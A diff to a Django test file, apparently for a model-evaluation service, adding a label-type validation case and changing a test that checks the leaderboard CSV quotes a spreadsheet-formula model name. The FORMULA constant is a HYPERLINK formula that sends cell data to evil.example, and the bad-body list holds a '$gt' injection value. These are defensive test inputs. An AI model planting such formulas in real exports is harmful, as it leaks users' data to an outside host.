@@ -16,6 +16,7 @@ from unittest import mock
 import pytest
 from django.apps import apps
 from django.contrib.auth.models import User
+from django.core.management import call_command
 from django.test import Client
 from django.utils import timezone
 
@@ -70,6 +71,7 @@ BAD_BODIES: list[tuple[str, bytes, int, str]] = [
     ("a JSON array", b'[{"source": "lab/model"}]', 400, "not a array"),
     ("source a number", as_json({"source": 7}), 400, "source must be a string, not a number"),
     ("name an object", as_json({"name": {"$gt": ""}}), 400, "name must be a string"),
+    ("label a number", as_json({"label": 12}), 400, "label must be a string, not a number"),
     ("suite a boolean", as_json({"suite": True}), 400, "suite must be a string"),
     ("an unknown field", as_json({"trust_remote_code": "yes"}), 400,
      "unknown field 'trust_remote_code'"),
@@ -191,10 +193,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 
 
 def test_a_formula_model_name_is_quoted_in_the_leaderboard_csv(tmp_path: Path) -> None:
-    staff = User.objects.create_user("admin", password="a-long-password-1", is_staff=True)
-    token = ApiToken.issue(staff, "ci")[1]
-    body = {"source": str(fake_checkpoint(tmp_path / "m")), "name": FORMULA, "revision": "-1"}
-    assert post_raw(token, json.dumps(body | {"suite": "smoke"}).encode()).status_code == 201
+    # A model's name is set by an operator or an admin (an API "name" is only a label).
+    call_command("submit", str(fake_checkpoint(tmp_path / "m")), "--suite", "smoke",
+                 "--name", FORMULA, "--revision", "-1")  # fmt: skip
     run = Run.objects.get()
     Run.objects.filter(pk=run.pk).update(status=Run.Status.SUCCEEDED, finished_at=timezone.now())
     PassAtK.objects.create(run=run, temperature=0.8, k=1, value=0.25, ci_low=-0.5, ci_high=0.5)
